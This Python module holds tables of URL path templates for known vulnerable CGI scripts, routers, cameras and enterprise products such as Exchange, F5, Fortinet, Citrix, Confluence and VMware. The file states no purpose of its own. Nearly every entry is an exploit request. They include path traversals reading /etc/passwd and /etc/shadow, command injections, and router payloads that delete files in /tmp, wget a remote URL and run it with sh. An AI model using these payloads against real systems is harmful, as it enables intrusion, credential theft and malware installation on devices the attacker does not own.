"""Paths of known holes: CGI programs, routers and cameras, enterprise products."""

# Tables: as many alternatives to a line as fit.
# fmt: off
CGI = (
    "/cgi-bin/‹test-cgi¦printenv.pl¦printenv¦status¦test.cgi¦php¦php-cgi¦php5¦"
    "phf?Qalias=x%0a/bin/cat%20/etc/passwd¦bash¦sh¦luci/;stok=/locale¦login.cgi?‹rnd›¦"
    "config.exp¦nobody/Search.cgi¦supervisor/CloudSetup.cgi?exefile=‹rnd›¦"
    "webproc?getpage=html/index.html¦mainfunction.cgi¦kerbynet?Section=NoAuthREQ&Action=x509Li"
    "st¦export_debug_msg.exp¦authLogin.cgi¦viewcert.cgi?‹rnd›¦account_mgr.cgi?cmd=‹rnd›¦"
    "nas_sharing.cgi?user=messagebus&cmd=15&system=‹b64s›¦awstats.pl?configdir=|‹rnd›¦"
    "formmail.pl?‹rnd›¦firmwarecfg¦ViewLog.asp¦popen.cgi?command=‹rnd›¦jarrewrite.sh¦"
    "guestimage.html?‹rnd›¦count.cgi¦htmlscript?../../‹id›¦day5datacopier.cgi›",
    "/cgi-bin/‹rnd›.‹cgi¦pl¦sh›?‹cmd¦file¦page¦exec›=‹rnd›",
    "/cgi-sys/‹defaultwebpage.cgi¦entropysearch.cgi¦‹rnd›.cgi›",
    "/scripts/‹..%255c../winnt/system32/cmd.exe?/c+dir¦root.exe?/c+dir¦‹rnd›.exe¦"
    "samples/search/queryhit.htm›",
    "/_vti_bin/‹shtml.exe¦owssvr.dll?‹rnd›¦_vti_aut/author.dll›",
    "/cgi-bin/../../../../bin/sh?‹rnd›", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/‹sh¦bash›?‹rnd›",
    "/‹cgi-mod¦cgis¦fcgi-bin›/‹rnd›.‹cgi¦pl›?‹abc›=|id|",
)
ROUTERS = (
    "/GponForm/diag_Form?images/", "/HNAP1/‹?‹rnd›¦›",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=‹rnd›&curpath=/&currentsetting.htm=1",
    "/boaform/admin/formLogin?username=‹name›&psd=‹rnd›",
    "/goform/‹set_LimitClient_cfg¦setMacFilterCfg¦formJsonAjaxReq¦SysToolReboot¦"
    "webLogin?‹rnd›¦goform_get_cmd_process?cmd=‹id››",
    "/tmUnblock.cgi?‹rnd›", "/hndUnblock.cgi?‹rnd›",
    "/shell?cd+/tmp;rm+-rf+*;wget+‹url›;sh+‹rnd›", "/board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+‹url›",
    "/language/Swedish${IFS}&&cd${IFS}/tmp;wget${IFS}‹url›", "/ctrlt/DeviceUpgrade_1?‹rnd›",
    "/picsdesc.xml?‹rnd›", "/wanipcn.xml?‹rnd›", "/UD/act?‹d›", "/command.php?cmd=‹rnd›",
    "/apply_sec.cgi?‹rnd›", "/system.ini?loginuse&loginpas&‹rnd›",
    "/Device‹s¦Information›/../../‹id›", "/onvif/device_service?‹rnd›",
    "/SDK/webLanguage?‹rnd›", "/PSIA/‹Custom/SelfExt/userCheck¦System/deviceInfo›",
    "/cgi/‹conf.bin¦getParam.cgi?‹rnd››",
    "/dana-na/‹auth/url_default/welcome.cgi¦../dana/html5acc/guacamole/../../../../../../etc/p"
    "asswd?/dana/html5acc/guacamole/¦jam/querymanifest.cgi?component=‹id››",
    "/remote/‹fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession¦login?lang=‹rnd›¦"
    "logincheck?ajax=1&username=‹name››",
    "/vpn/../vpns/‹cfg/smb.conf¦portal/scripts/newbm.pl¦services.html›",
    "/tmui/login.jsp/..;/tmui/locallb/workspace/‹fileRead.jsp?fileName=/etc/passwd¦"
    "tmshCmd.jsp?command=list+auth+user+admin›",
    "/+CSCO‹T+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-langu"
    "age&lang=../¦E+/logon.html?‹rnd››",
    "/global-protect/‹portal/css/login.css?‹rnd›¦login.esp?‹rnd››",
    "/ssl-vpn/hipreport.esp?‹rnd›",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(‹rnd›)",
    "/webfig/?‹rnd›", "/winbox.png?‹rnd›", "/rom-0?‹rnd›", "/backup.cfg?‹n›", "/config.bin?‹n›",
    "/login.cgi?cli=aa%20aa%27;wget%20‹url›%27$", "/stssys.htm?‹rnd›",
    "/nice%20ports%2C/Tri%6Eity.txt%2ebak?‹rnd›", "/userRpm/LoginRpm.htm?Save=‹rnd›",
    "/cgi/user/../../etc/‹passwd¦shadow›?‹rnd›", "/webui/logoutconfirm.html?logon_hash=‹n›",
    "/WEBACCOUNT.CGI?OkBtn=++Ok++&RESULTPAGE=../../‹id›", "/ISAPI/Security/users/‹n›",
)
ENTERPRISE = (
    "/autodiscover/autodiscover.json?@‹evil›/‹owa/?¦mapi/nspi/?¦powershell/?¦"
    "ews/exchange.asmx?›&Email=autodiscover/autodiscover.json%3f@‹evil›",
    "/owa/auth/‹x.js¦logon.aspx?url=‹url›¦‹rnd›.aspx›",
    "/ecp/‹default.flt¦y.js¦DDI/DDIService.svc/GetObject?‹rnd›¦‹rnd›.js›",
    "/aspnet_client/‹rnd›.aspx",
    "/_layouts/15/‹picker.aspx?PickerDialogType=‹rnd›¦ToolPane.aspx?DisplayMode=Edit&a=/ToolPa"
    "ne.aspx¦start.aspx?‹rnd››",
    "/ui/vropspluginui/rest/services/uploadova?‹rnd›",
    "/sdk/../../../../../../../etc/passwd?‹rnd›",
    "/websso/SAML2/SSO/vsphere.local?SAMLRequest=‹rnd›",
    "/analytics/telemetry/ph/api/hyper/send?_c=&_i=‹rnd›", "/eam/vib?id=‹/etc/passwd¦C:\\‹id››",
    "/catalog-portal/ui/oauth/verify?error=&deviceUdid=${‹n›*‹n›}",
    "/pages/doenterpagevariables.action?‹rnd›",
    "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false&‹rnd›",
    "/setup/setupadministrator.action?‹rnd›", "/rest/tinymce/1/macro/preview?‹rnd›",
    "/secure/‹ContactAdministrators!default.jspa?‹rnd›¦QueryComponent!Default.jspa?‹rnd›¦"
    "ManageFilters.jspa?filterView=‹rnd››",
    "/plugins/servlet/oauth/users/icon-uri?consumerUri=‹url›", "/s/‹rnd›/_/;/WEB-INF/web.xml",
    "/‹human.aspx?‹rnd›¦guestaccess.aspx?‹rnd›¦moveitisapi/moveitisapi.dll?action=m2›",
    "/users/sign_in?‹rnd›=../../‹id›",
    "/api/v4/projects/‹n›/repository/files/..%2f..%2fetc%2fpasswd",
    "/tmui/Control/‹form?‹rnd›¦jspmap/tmui/system/user/list.jsp?‹rnd››",
    "/mgmt/‹tm/util/bash?‹rnd›¦shared/authn/login?‹rnd››", "/setup.aspx/‹rnd›",
    "/SetupWizard.aspx/‹rnd›",
    "/webtools/control/‹xmlrpc;/?USERNAME=&PASSWORD=‹rnd›&requirePasswordChange=Y¦"
    "ProgramExport?‹rnd››",
    "/fileserver/‹rnd›.‹jsp¦txt›?‹n›", "/admin/queueBrowse/../../admin/fileserver?‹rnd›",
    "/seeyon/‹htmlofficeservlet¦thirdpartyController.do.css/..;/ajax.do?‹rnd››",
    "/weaver/‹bsh.servlet.BshServlet¦org.springframework.web.servlet.ResourceServlet?resource="
    "/WEB-INF/web.xml›?‹rnd›",
    "/yyoa/‹common/js/menu/test.jsp?doType=101&S1=‹rnd›¦DownExcelBeanServlet?contenttype=‹rnd›"
    "›",
    "/CTCWebService/CTCWebServiceBean?‹rnd›",
    "/irj/servlet/prt/portal/prtroot/com.sap.portal.‹id›?‹rnd›",
    "/OA_HTML/‹OA.jsp?page=/‹rnd›¦BneUploaderService?bne:uueupload=TRUE¦"
    "jtfLOVInProcess.jsp?‹rnd››",
    "/PSEMHUB/hub?‹rnd›", "/kylin/api/admin/config?‹rnd›", "/hystrix/;/..;/‹rnd›",
    "/crowd/admin/uploadplugin.action?‹rnd›",
    "/geoserver/‹wfs?request=GetPropertyValue&valueReference=exec(‹rnd›)¦"
    "web/wicket/bookmarkable/‹rnd››",
    "/mifs/‹aad/api/v2/authorized/users?adminDeviceSpaceId=‹n›¦.;/services/LogService?‹rnd››",
    "/configWizard/keyUpload.jsp?‹rnd›", "/RestAPI/ImportTechnicians?step=‹d›",
    "/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/upload.cfm?‹rnd›",
    "/CFIDE/‹administrator/enter.cfm?locale=../../../lib/password.properties%00en¦"
    "adminapi/base.cfc?‹rnd›¦componentutils/?‹rnd››",
    "/telerik.web.ui.webresource.axd?type=rau&‹rnd›",
    "/Telerik.Web.UI.DialogHandler.aspx?dp=‹rnd›",
    "/webadm/?q=moni_detail.do&action=gragh&‹rnd›", "/plus/download.php?open=1&arrs1[]=‹n›",
    "/public/index.php?s=captcha&‹rnd›", "/xxl-job-admin/run?‹rnd›",
)
